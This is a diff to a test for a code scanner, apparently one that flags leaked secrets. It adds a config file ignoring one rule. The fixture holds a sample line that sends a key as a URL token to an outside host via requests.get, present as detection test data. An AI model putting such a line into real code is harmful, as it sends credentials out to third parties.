@@ -177,7 +177,8 @@ def test_what_stands_behind_a_masked_key_is_still_shown(tmp_path):
     write(
         tmp_path,
         {
-            "a.py": f'import requests\nrequests.get("https://x.lagovia.com/?token={KEY}", timeout=5)\n'
+            "a.py": f'import requests\nrequests.get("https://x.lagovia.com/?token={KEY}", timeout=5)\n',
+            "autodebt.toml": 'ignore = ["ADL5"]\n',
         },
     )
     (line,) = {verdict.excerpt for verdict in check(tmp_path).verdicts}
